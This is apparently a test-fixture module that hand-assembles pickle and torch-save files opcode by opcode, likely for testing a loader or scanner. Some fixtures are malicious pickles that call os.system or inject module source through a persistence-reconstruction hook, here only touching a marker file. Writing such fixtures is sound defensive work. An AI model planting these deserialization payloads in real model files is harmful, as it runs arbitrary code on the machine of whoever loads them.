"""Pickles and torch files put together by hand, opcode by opcode.

Those that want to run something make the file `MARK` in the working folder.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from typing import Final

MARK: Final = "text2face-was-here"
COMMAND: Final = f"touch {MARK}"
PYTHON: Final = f"open({MARK!r}, 'w').close()"
PROTO: Final = b"\x80\x04"


def text(value: str) -> bytes:
    encoded = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def integer(value: int) -> bytes:
    encoded = value.to_bytes(16, "little", signed=True)
    return b"\x8a\x10" + encoded


def name(full: str) -> bytes:
    module, attribute = full.rsplit(".", 1)
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def many(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(full: str, *args: bytes) -> bytes:
    return name(full) + many(*args) + b"R"


def whole(body: bytes) -> bytes:
    return PROTO + body + b"."


DTYPE: Final = call("numpy.dtype", text("f4"), b"\x89", b"\x88") + (
    b"(K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
)


def legacy_file(main: bytes, keys: bytes = b"]", numbers: bytes = b"") -> bytes:
    """A legacy file of `torch.save` around a pickle."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    head = (0x1950A86A20F9469CFC6C, 1001, system)
    start = b"".join(pickle.dumps(item, protocol=2) for item in head)
    return start + whole(main) + whole(keys) + numbers


def storage(key: str = "0", count: bytes = b"K\x04", kind: str = "torch.FloatStorage") -> bytes:
    return many(text("storage"), name(kind), text(key), text("cpu"), count) + b"Q"


def tensor(stored: bytes, offset: bytes, shape: bytes, stride: bytes) -> bytes:
    hooks = call("collections.OrderedDict")
    return call("torch._utils._rebuild_tensor_v2", stored, offset, shape, stride, b"\x89", hooks)


def zip_file(
    pickled: bytes, numbers: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED
) -> bytes:
    """A zip file of `torch.save` around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("archive/data.pkl", pickled)
        for key, content in (numbers or {}).items():
            archive.writestr(f"archive/data/{key}", content)
    return buffer.getvalue()


def array(shape: bytes, dtype: bytes, data: bytes) -> bytes:
    start = call(
        "numpy.core.multiarray._reconstruct", name("numpy.ndarray"), b"K\x00\x85", raw(b"b")
    )
    return start + many(b"K\x01", shape, dtype, b"\x89", data) + b"b"


SYSTEM: Final = call("os.system", text(COMMAND))


def persistent(state: bytes, class_name: bytes = text("Generator"), kind: str = "class") -> bytes:
    source = text(f"import os; os.system({COMMAND!r}); raise SystemExit")
    meta = b"(" + text("type") + text(kind) + text("version") + b"K\x06" + text("module_src")
    meta += source + text("class_name") + class_name + text("state") + state + b"d"
    return call("torch_utils.persistence._reconstruct_persistent_obj", meta)


def module(children: bytes) -> bytes:
    empty = text("_parameters") + b"}" + text("_buffers") + b"}"
    return persistent(b"(" + empty + text("_modules") + children + b"d")
